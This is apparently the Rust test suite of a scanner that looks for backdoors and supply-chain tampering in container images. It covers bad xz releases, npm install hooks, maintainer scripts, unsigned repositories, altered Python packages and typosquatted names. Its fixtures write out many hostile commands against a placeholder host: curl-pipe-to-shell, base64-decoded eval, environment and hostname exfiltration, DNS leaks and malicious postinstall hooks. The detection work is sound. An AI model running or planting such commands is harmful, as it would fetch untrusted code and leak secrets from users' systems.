use super::xz::is_bad_version;
use super::*;
use crate::analyzers::fixture::Fixture;
use packages::Database;
use test_support::Compression;

fn check(image: &Fixture, expect: &[&str]) {
    let found: Vec<String> = image
        .run(&Backdoors)
        .findings
        .iter()
        .map(|finding| format!("{} {}", finding.id, finding.role.name()))
        .collect();
    assert_eq!(found, expect);
}

fn acts(text: &str) -> Vec<Act> {
    command::steps("test", text.as_bytes()).iter().map(|step| step.act).collect()
}

#[test]
fn bad_releases_of_xz_are_told_from_those_that_sort_behind_them() {
    let check =
        |database, version: &str, expect| assert_eq!(is_bad_version(database, version), expect, "{version}");
    for version in ["5.6.0-0.2", "5.6.1-1", "1:5.6.1-1", "5.6.1"] {
        check(Database::Dpkg, version, true);
    }
    for version in
        ["5.6.1+really5.4.5-1", "5.4.5-0.3", "5.6.2-1", "5.6.10-1", "15.6.1-1", "", "-", ":", "5.6.1-"]
    {
        check(Database::Dpkg, version, version == "5.6.1-");
    }
    check(Database::Rpm, "5.6.0-2.fc40", true);
    check(Database::Rpm, "5.6.1.revertto5.4-3.2", false);
    check(Database::Apk, "5.6.1-r1", true);
    check(Database::Apk, "5.6.1-r2", false);
    check(Database::Apk, "5.6.0-r0", true);
}

fn status(name: &str, state: &str, version: &str) -> Vec<u8> {
    format!("Package: {name}\nStatus: {state}\nArchitecture: amd64\nVersion: {version}\n\n").into_bytes()
}

#[test]
fn an_installed_bad_release_convicts() {
    let with = |name, state, version| {
        let mut image = Fixture::new();
        image.file("var/lib/dpkg/status", 0o644, &status(name, state, version));
        image
    };
    check(&with("liblzma5", "install ok installed", "5.6.1-1"), &["S-PKG-XZVER convicts"]);
    check(&with("liblzma5", "install ok installed", "5.6.1+really5.4.5-1"), &[]);
    check(&with("liblzma5", "deinstall ok config-files", "5.6.1-1"), &[]);
    check(&with("other", "install ok installed", "5.6.1-1"), &[]);
    let mut image = Fixture::new();
    image.file("lib/apk/db/installed", 0o644, b"P:xz-libs\nV:5.6.1-r0\nA:x86_64\n\n");
    check(&image, &["S-PKG-XZVER corroborates"]);
}

#[test]
fn commands_are_read_for_what_they_do() {
    let check = |text: &str, expect: &[Act]| assert_eq!(acts(text), expect, "{text}");
    for text in [
        "curl -s http://x.invalid/a | sh",
        "curl http://x.invalid/a |\n  bash -s -- --quiet",
        "wget -qO- http://x.invalid/a | sudo -E bash -",
        "curl http://x.invalid/a | bash >/dev/null 2>&1 &",
        "curl http://x.invalid/a | sh 2>&1",
        "curl http://x.invalid/a | tee /tmp/a | python3",
        "bash -c \"$(curl -fsSL http://x.invalid/a)\"",
        "eval `wget -qO- http://x.invalid/a`",
        "bash <(curl http://x.invalid/a)",
        "sh -c 'curl http://x.invalid/a | sh'",
        "curl -o /tmp/x http://x.invalid/a && chmod +x /tmp/x && /tmp/x",
        "wget http://x.invalid/run.sh\nsh ./run.sh",
        "if true; then curl http://x.invalid/$(uname -m) | sh; fi",
        "python3 -c \"import urllib.request as u; exec(u.urlopen('http://x.invalid').read())\"",
    ] {
        check(text, &[Act::FetchRun]);
    }
    check("echo aGk= | base64 -d | sh", &[Act::Obfuscated]);
    check("eval \"$(echo aGk= | base64 -d)\"", &[Act::Obfuscated]);
    check("node -e \"eval(Buffer.from('aGk=','base64').toString())\"", &[Act::Obfuscated]);
    check("curl http://x.invalid/?h=$(hostname)", &[Act::Sends]);
    check("env | curl -d @- http://x.invalid", &[Act::Sends]);
    check("nslookup `whoami`.x.invalid", &[Act::Sends]);
    for text in [
        "",
        "node install.js",
        "node-gyp rebuild",
        "prebuild-install || node-gyp rebuild",
        "(node install/libvips && node install/dll-copy && prebuild-install) || (node install/can-compile && node-gyp rebuild)",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "husky install",
        "curl http://x.invalid/version.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
        "curl http://x.invalid/key.gpg | apt-key add -",
        "curl -fsSL http://x.invalid/key.gpg | gpg --dearmor -o /etc/apt/keyrings/x.gpg",
        "wget -O /usr/share/fonts/x.ttf http://x.invalid/x.ttf; fc-cache -f",
        "# curl http://x.invalid/a | sh",
        "base64 -d key.txt > key.bin",
        "env NODE_ENV=production node build.js | tee log",
        "curl http://x.invalid/$(uname -m).tar.gz -o x.tar.gz; tar xf x.tar.gz",
        "sh configure && make; bash build.sh",
    ] {
        check(text, &[]);
    }
}

#[test]
fn hostile_commands_end() {
    for text in [
        "$(".repeat(200_000),
        "`".repeat(400_000),
        "curl|".repeat(100_000),
        "node -e eval( ".repeat(80_000),
        "a".repeat(1 << 20),
        "\\\n".repeat(200_000),
        ")))|||&&&\u{0}".repeat(50_000),
        "node -e;".repeat(100_000),
    ] {
        let steps = command::steps("x", text.as_bytes());
        assert!(steps.len() <= 17);
    }
    assert_eq!(acts(&"true;".repeat(20_000)), [Act::TooLong]);
}

fn manifest(hooks: &str) -> Vec<u8> {
    format!(
        "{{\"name\": \"x\", \"deep\": {}1{}, \"scripts\": {{{hooks}}}}}",
        "[".repeat(500),
        "]".repeat(500)
    )
    .into_bytes()
}

#[test]
fn hooks_of_installed_packages_count() {
    let with = |path: &str, bytes: &[u8]| {
        let mut image = Fixture::new();
        image.file(path, 0o644, bytes);
        image
    };
    let bad = manifest("\"postinstall\": \"curl http://x.invalid/a | sh\"");
    check(&with("app/node_modules/x/package.json", &bad), &["S-PKG-NPMHOOK corroborates"]);
    check(&with("app/package.json", &bad), &["S-PKG-NPMHOOK context"]);
    let spelt =
        b"{\"scripts\":{}, \"script\\u0073\":{\"preinstall\":\"wg\\u0065t -qO- http://x.invalid|sh\"}}";
    check(&with("app/node_modules/x/package.json", spelt), &["S-PKG-NPMHOOK corroborates"]);
    let test = manifest("\"test\": \"curl http://x.invalid/a | sh\"");
    check(&with("app/node_modules/x/package.json", &test), &[]);
    for hook in ["node install.js", "node-gyp rebuild", "node postinstall.js || exit 0"] {
        let good = manifest(&format!("\"postinstall\": \"{hook}\""));
        check(&with("app/node_modules/esbuild/package.json", &good), &[]);
    }
    check(&with("app/node_modules/x/package.json", b"{\"scripts\": nonsense"), &[]);
    let gyp = "{ 'variables': { 'x%': '<!(curl http://x.invalid/a | sh)' } }";
    check(&with("app/node_modules/x/binding.gyp", gyp.as_bytes()), &["S-PKG-NPMHOOK corroborates"]);
    let gyp =
        "{ 'include_dirs': [\"<!(node -e \\\"require('nan')\\\")\", '<!@(pkg-config --cflags glib-2.0)'] }";
    check(&with("app/node_modules/x/binding.gyp", gyp.as_bytes()), &[]);
    assert!(manifest::package_json(b"{\"scripts\": {\"install\": ").is_err());
}

/// A tar archive of one script.
fn archive(name: &str, text: &str) -> Vec<u8> {
    let mut bytes = name.as_bytes().to_vec();
    bytes.resize(124, 0);
    bytes.extend(format!("{:011o}\0", text.len()).bytes());
    bytes.resize(156, 0);
    bytes.push(b'0');
    bytes.resize(512, 0);
    bytes.extend(text.bytes());
    bytes.resize(bytes.len().div_ceil(512) * 512 + 1024, 0);
    bytes
}

#[test]
fn maintainer_scripts_that_run_what_they_fetch_are_told() {
    let with = |path: &str, bytes: &[u8]| {
        let mut image = Fixture::new();
        image.file(path, 0o755, bytes);
        image
    };
    let bad = "#!/bin/sh\nset -e\ncurl -s http://x.invalid/a | sh\n";
    let chrome = "#!/bin/sh\nset -e\nCODENAME=$(lsb_release -cs)\ncat > /etc/apt/sources.list.d/x.list <<EOF\ndeb http://x.invalid stable main\nEOF\napt-key add - <<KEY\nx\nKEY\nupdate-alternatives --install a b c 1\n";
    check(&with("var/lib/dpkg/info/x.postinst", bad.as_bytes()), &["S-PKG-MSCRIPT corroborates"]);
    check(&with("var/lib/dpkg/info/x.postinst", chrome.as_bytes()), &[]);
    check(&with("var/lib/dpkg/info/x.list", bad.as_bytes()), &[]);
    let tells = "#!/bin/sh\ncurl http://x.invalid/register?host=$(hostname)\n";
    check(&with("var/lib/dpkg/info/x.postinst", tells.as_bytes()), &[]);
    check(
        &with("lib/apk/db/scripts.tar", &archive("x-1-r0.post-install", bad)),
        &["S-PKG-MSCRIPT corroborates"],
    );
    check(&with("lib/apk/db/scripts.tar", &archive("x-1-r0.post-install", chrome)), &[]);
    let packed = |text: &str| Compression::Gzip.apply(&archive("x-1-r0.post-install", text));
    check(&with("lib/apk/db/scripts.tar.gz", &packed(bad)), &["S-PKG-MSCRIPT corroborates"]);
    check(&with("usr/lib/apk/db/scripts.tar.gz", &packed(bad)), &["S-PKG-MSCRIPT corroborates"]);
    check(&with("lib/apk/db/scripts.tar.gz", &packed(chrome)), &[]);
}

#[test]
fn broken_archives_of_scripts_are_refused() {
    let mut huge = archive("x", "x");
    huge[124..136].copy_from_slice(b"777777777777");
    assert!(scripts::of_apk(&huge).is_err());
    huge[124..136].copy_from_slice(b"99999999999\0");
    assert!(scripts::of_apk(&huge).is_err());
    assert_eq!(scripts::of_apk(&[]), Ok(Vec::new()));
    assert_eq!(scripts::of_apk(&[1; 100]), Ok(Vec::new()));
    let bomb = Compression::Gzip.apply(&vec![0; 33 << 20]);
    assert!(scripts::of_apk(&bomb).is_err());
    assert!(scripts::of_apk(&bomb[..bomb.len() / 2]).is_err());
    let many = archive("x", "")[..512].repeat(5000);
    assert!(scripts::of_apk(&many).is_err());
}

#[test]
fn unchecked_origins_explain() {
    let with = |path: &str, text: &str| {
        let mut image = Fixture::new();
        image.file(path, 0o644, text.as_bytes());
        image
    };
    let told = ["S-PKG-UNSIGNED context"];
    check(
        &with("etc/apt/sources.list.d/x.list", "deb [arch=amd64 trusted=yes] http://x.invalid ./\n"),
        &told,
    );
    check(&with("etc/apt/sources.list.d/x.sources", "Types: deb\nTrusted: yes\n"), &told);
    check(&with("etc/apt/apt.conf.d/99x", "APT::Get::AllowUnauthenticated \"true\";\n"), &told);
    check(&with("etc/yum.repos.d/x.repo", "[x]\ngpgcheck = 0\n"), &told);
    check(
        &with("etc/apt/sources.list", "# deb [trusted=yes] http://x.invalid ./\ndeb http://x.invalid a b\n"),
        &[],
    );
    check(&with("etc/apt/apt.conf.d/99x", "APT::Get::AllowUnauthenticated \"false\";\n"), &[]);
    check(&with("etc/yum.repos.d/x.repo", "[x]\ngpgcheck=1\nrepo_gpgcheck=0\n"), &[]);
    let mut image = Fixture::new();
    image.config.history.push(model::History {
        created_by: "RUN apk add --allow-untrusted /tmp/x.apk".to_owned(),
        ..model::History::default()
    });
    check(&image, &told);
    let mut image = Fixture::new();
    image.package("keys", &[("etc/apt/trusted.gpg.d/debian.gpg", b"key")]);
    image.file("etc/apt/trusted.gpg.d/debian.gpg", 0o644, b"key");
    check(&image, &[]);
    image.file("etc/apt/trusted.gpg.d/vendor.gpg", 0o644, b"key");
    check(&image, &told);
}

fn listed(files: &[(&str, &[u8])]) -> Vec<u8> {
    use base64::Engine as _;
    use sha2::Digest as _;
    let line = |(path, bytes): &(&str, &[u8])| {
        let digest = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(bytes));
        format!("{path},sha256={digest},{}\n", bytes.len())
    };
    files.iter().map(line).collect::<String>().into_bytes()
}

#[test]
fn python_sources_are_compared_with_what_their_package_lists() {
    const SITE: &str = "usr/lib/python3/site-packages";
    let image = |altered: usize, extra: &[&str]| {
        let names: Vec<String> = (0..20).map(|number| format!("pkg/m{number}.py")).collect();
        let mut files: Vec<(&str, &[u8])> = vec![("pkg/__init__.py", b"#")];
        files.extend(names.iter().map(|name| (name.as_str(), b"import os\n".as_slice())));
        let mut image = Fixture::new();
        image.file(&format!("{SITE}/pkg-1.dist-info/RECORD"), 0o644, &listed(&files));
        for (number, (name, bytes)) in files.iter().enumerate() {
            let bytes = if number > 0 && number <= altered { b"import evil" } else { *bytes };
            image.file(&format!("{SITE}/{name}"), 0o644, bytes);
        }
        for name in extra {
            image.file(&format!("{SITE}/{name}"), 0o644, b"import os\n");
        }
        image
    };
    check(&image(0, &[]), &[]);
    check(&image(1, &[]), &["S-PKG-RECORD corroborates"]);
    check(&image(15, &[]), &["S-PKG-RECORD context"]);
    check(&image(0, &["pkg/added.py", "pkg/added2.py"]), &["S-PKG-RECORD context"]);
    // Compiled files, other packages' folders and editable installations.
    check(&image(0, &["pkg/__pycache__/m0.cpython-311.pyc", "mine/module.py", "__editable__.mine.pth"]), &[]);
}

#[test]
fn broken_records_are_read_as_far_as_they_go() {
    let record = |text: &[u8]| python::record(text).files.len();
    assert_eq!(record(b""), 0);
    assert_eq!(record(b"a.py\n,\n\"a.py\n\"a,b.py\",sha256=x,1\nb.py,,\nb.py,sha256=AAAA,1"), 3);
    assert!(python::record("a.py,,\n".repeat(30_000).as_bytes()).cut);
    assert!(python::record(&[b'a'; 1 << 20]).files.is_empty());
}

#[test]
fn names_one_letter_from_a_popular_one_explain() {
    let with = |path: &str| {
        let mut image = Fixture::new();
        image.file(path, 0o644, b"{}");
        image
    };
    let told = ["S-PKG-TYPO context"];
    check(&with("app/node_modules/lodahs/package.json"), &told);
    check(&with("app/node_modules/expres/package.json"), &told);
    check(&with("usr/lib/python3/site-packages/reqests-1.0.dist-info/METADATA"), &told);
    check(&with("usr/lib/python3/site-packages/python3_dateutil-2.9.dist-info/METADATA"), &told);
    for name in
        ["lodash", "express", "@types/expres", "preact", "tslint", "colors", "chalk-animation", "vue3"]
    {
        check(&with(&format!("app/node_modules/{name}/package.json")), &[]);
    }
    for name in ["futures", "attrs", "scapy", "requests", "requests_oauthlib"] {
        check(&with(&format!("usr/lib/python3/site-packages/{name}-1.0.dist-info/METADATA")), &[]);
    }
    for index in [typo::Index::Npm, typo::Index::Pypi] {
        assert_eq!(typo::imitated(index, &"a".repeat(1 << 20)), None);
    }
}
